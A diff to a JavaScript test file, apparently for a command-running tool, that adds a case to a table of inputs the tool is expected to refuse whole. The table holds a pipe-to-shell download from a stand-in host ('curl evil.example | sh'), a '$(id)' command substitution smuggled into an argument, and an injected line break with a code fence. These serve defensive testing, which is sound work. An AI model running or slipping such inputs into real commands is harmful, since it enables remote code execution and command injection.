@@ -290,6 +290,7 @@ describe('a fork', () => {
 
   it.each([
     ['another command', { command: 'curl evil.example | sh' }],
+    ['a folder that a shell would run', { command: 'strat amend a "$(id)" --why "…"' }],
     ['a command with more on its line', { command: 'strat amend a --why "…"\n```\n# Hi' }],
   ])('with %s is refused whole', async (_what, change) => {
     await run({ fork: true, inputs: saving });
